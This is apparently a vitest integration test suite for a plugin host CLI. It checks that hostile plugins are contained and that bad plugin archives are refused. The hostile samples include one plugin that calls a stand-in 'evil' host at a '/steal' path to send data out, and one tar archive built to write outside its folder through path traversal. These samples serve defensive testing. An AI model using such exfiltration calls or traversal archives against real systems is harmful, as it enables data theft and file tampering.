import { execFileSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { descendants, livingOf } from './support/processes.js';
import { expectRefused } from './support/refusal.js';
import { type Scene, setScene } from './support/scene.js';
import type { CollectJson } from './support/shapes.js';
import { type PluginSource, writePlugin } from './support/write-plugin.js';

let scene: Scene;

beforeAll(async () => {
  scene = await setScene({ users: 20, signIns: 200 });
  await scene.add('Good');
  await scene.rollcall.json(['integration', 'collect', 'Good']);
});

afterAll(() => scene[Symbol.asyncDispose]());

/** Writes a plugin, adds it, and makes an integration of it that has the plugin's id as its name. */
async function install(source: PluginSource): Promise<void> {
  const folder = await writePlugin(scene.folder, source);
  await scene.rollcall.json(['plugin', 'add', folder, '--accept-risk']);
  const url = `url=${scene.org.salesforceUrl}`;
  await scene.rollcall.json(['integration', 'add', source.id, '--name', source.id, '--set', url]);
}

async function recordsOf(name: string): Promise<Readonly<Record<string, number>>> {
  const shown = await scene.rollcall.json<{ records: Record<string, number> }>([
    ...['integration', 'show', name],
  ]);
  return shown.records;
}

const thing = `{ type: 'batch', stream: 'things', records: [{ id: 'a', size: 1 }] }`;

const hostile: readonly (PluginSource & { what: string; codes: RegExp })[] = [
  {
    what: 'fills its heap',
    id: 'heap',
    collect: 'const all = []; for (;;) all.push(new Array(100_000).fill(all.length));',
    codes: /^HOOK_OUT_OF_MEMORY$/,
  },
  {
    what: 'fills memory outside of its heap',
    id: 'buffers',
    collect:
      'const all = []; for (;;) { all.push(Buffer.alloc(8_000_000, 1)); await new Promise((next) => setImmediate(next)); }',
    codes: /^HOOK_OUT_OF_MEMORY$/,
  },
  { what: 'computes for ever', id: 'busy', collect: 'for (;;);', codes: /^HOOK_(TIMEOUT|STUCK)$/ },
  {
    what: 'waits for ever and does not hear that it should stop',
    id: 'deaf',
    collect: 'await new Promise((resolve) => setInterval(() => undefined, 1000));',
    codes: /^HOOK_(TIMEOUT|STUCK)$/,
  },
  {
    what: 'asks for a host that it did not declare',
    id: 'elsewhere',
    collect: `await this.http.request({ url: 'https://evil.my.salesforce.com/steal' }); yield ${thing};`,
    codes: /^EGRESS_DENIED$/,
  },
  {
    what: 'gives records of another form',
    id: 'formless',
    collect: `yield { type: 'batch', stream: 'things', records: [{ id: 'a', size: 1 }, { id: 'b', size: 'large' }] };`,
    codes: /^RECORD_INVALID$/,
  },
  {
    what: 'gives records without their key',
    id: 'keyless',
    collect: `yield { type: 'batch', stream: 'things', records: [{ size: 1 }] };`,
    codes: /^RECORD_INVALID$/,
  },
  {
    what: 'gives records of a stream that it did not declare',
    id: 'stray',
    collect: `yield { type: 'batch', stream: 'others', records: [{ id: 'a', size: 1 }] };`,
    codes: /^HOOK_PROTOCOL$/,
  },
  {
    what: 'says what no host understands',
    id: 'babble',
    collect: `yield { type: 'conquer', stream: 'things' };`,
    codes: /^HOOK_PROTOCOL$/,
  },
  {
    what: 'ends its process before it is done',
    id: 'quitter',
    collect: 'process.exit(0);',
    codes: /^HOOK_(CRASHED|PROTOCOL)$/,
  },
  {
    what: 'claims that its lease is lost, so that it would begin again for ever',
    id: 'leaseless',
    collect: `throw new RollcallError('LEASE_LOST', 'so it says');`,
    codes: /^PLUGIN_BROKEN$/,
  },
  {
    what: 'throws what is no error',
    id: 'thrower',
    collect: 'throw null;',
    codes: /^(PLUGIN_BROKEN|INTERNAL|HOOK_CRASHED)$/,
  },
];

describe('a plugin that', () => {
  it.each(hostile)('$what ends with its code, and nothing is stored', async (source) => {
    await install(source);
    const before = scene.org.network.connects.length;

    const outcome = await scene.rollcall.run(['integration', 'collect', source.id, '--json']);

    expect(outcome.code, outcome.stdout + outcome.stderr).toBe(1);
    const { run } = outcome.json<CollectJson>();
    expect(run.status).toBe('failed');
    expect(run.error?.code).toMatch(source.codes);
    expect(run.error?.hint).toMatch(/\S/);
    expect(await recordsOf(source.id)).toEqual({});
    expect(scene.org.network.connects.length).toBe(before);
  });

  it('claims that the quota is used up holds up nobody else', async () => {
    await install({
      id: 'liar',
      collect: `throw new RollcallError('QUOTA_CEILING', 'so it says', { details: { resumeAt: '2099-01-01T00:00:00Z' } });`,
    });

    const outcome = await scene.rollcall.run(['integration', 'collect', 'liar', '--json']);
    const good = await scene.rollcall.json<CollectJson>(['integration', 'collect', 'Good']);

    expect(outcome.code, outcome.stdout).toBe(1);
    expect(outcome.json<CollectJson>().run.status).toBe('failed');
    expect(good.run.status).toBe('succeeded');
  });

  it('is ended by Ctrl-C although it does not hear it, with all of its processes', async () => {
    await install({
      id: 'stubborn',
      collect: `yield ${thing}; for (;;);`,
      manifest: { hooks: { testConnectivity: {}, collect: { slice: '10m', memoryMb: 128 } } },
    });
    const collecting = scene.rollcall.start(['integration', 'collect', 'stubborn', '--json']);
    const pid = collecting.process.pid ?? 0;
    await expect
      .poll(async () => (await hooksOf(pid)).length, { timeout: 60_000 })
      .toBeGreaterThan(0);
    const hooks = await hooksOf(pid);

    collecting.process.kill('SIGINT');
    const outcome = await collecting.outcome;

    expect(outcome.code, outcome.stdout).toBe(1);
    expect(outcome.json<CollectJson>().run.status).toBe('cancelled');
    await expect.poll(() => livingOf(hooks.map((one) => one.pid)), { timeout: 10_000 }).toEqual([]);
  });

  it('went wrong leaves the host as it was: the others go on', async () => {
    const { run } = await scene.rollcall.json<CollectJson>(['integration', 'collect', 'Good']);

    expect(run.status).toBe('succeeded');
    const { ok } = await scene.rollcall.json<{ ok: boolean }>(['doctor']);
    expect(ok).toBe(true);
  });
});

async function hooksOf(pid: number) {
  return (await descendants(pid)).filter(({ command }) => command.includes('hook-process'));
}

describe('a plugin of an author', () => {
  it('is added as a folder, listed, shown, used, and removed when nothing uses it', async () => {
    await install({ id: 'honest', collect: `yield ${thing};` });

    const { run } = await scene.rollcall.json<CollectJson>(['integration', 'collect', 'honest']);
    const listed = await scene.rollcall.json<{ plugins: { id: string }[] }>(['plugin', 'list']);
    const shown = await scene.rollcall.json<{ publisher: string }>(['plugin', 'show', 'honest']);
    const inUse = await scene.rollcall.run(['plugin', 'remove', 'honest', '--json']);
    const records = await recordsOf('honest');
    await scene.rollcall.json(['integration', 'remove', 'honest', '--yes']);
    await scene.rollcall.json(['plugin', 'remove', 'honest']);
    const gone = await scene.rollcall.run(['plugin', 'show', 'honest', '--json']);

    expect(run.status).toBe('succeeded');
    expect(records).toEqual({ records: 1 });
    expect(listed.plugins.map(({ id }) => id)).toContain('honest');
    expect(shown.publisher).toBe('Test');
    expectRefused(inUse, { code: 'PLUGIN_IN_USE', says: /honest/, hints: /Remove/ });
    expect(gone.code).toBe(5);
  });

  it('is added as an archive', async () => {
    const folder = await writePlugin(scene.folder, { id: 'packed', collect: `yield ${thing};` });
    const archive = join(scene.folder, 'packed.tgz');
    execFileSync('tar', ['-czf', archive, '-C', folder, '.']);

    const added = await scene.rollcall.json<{ id: string; version: string }>([
      ...['plugin', 'add', archive, '--accept-risk'],
    ]);

    expect(added).toMatchObject({ id: 'packed', version: '1.0.0', source: 'added' });
  });

  it('is refused as an archive that reaches out of its folder or is none', async () => {
    const folder = await writePlugin(scene.folder, { id: 'climber', collect: '' });
    const climbing = join(scene.folder, 'climber.tgz');
    execFileSync('tar', [
      ...['-czPf', climbing, '-C', folder, '--transform=s,^dist,../dist,', 'plugin.json', 'dist'],
    ]);
    const noArchive = join(scene.folder, 'none.tgz');
    await writeFile(noArchive, 'nothing');

    for (const path of [climbing, noArchive, join(scene.folder, 'nowhere')]) {
      const outcome = await scene.rollcall.run(['plugin', 'add', path, '--json']);

      expect([2, 5], outcome.stdout).toContain(outcome.code);
      expect(outcome.json<{ error: { code: string } }>().error.code).toMatch(
        /^(PLUGIN|INPUT|NOT)_/,
      );
    }
  });
});
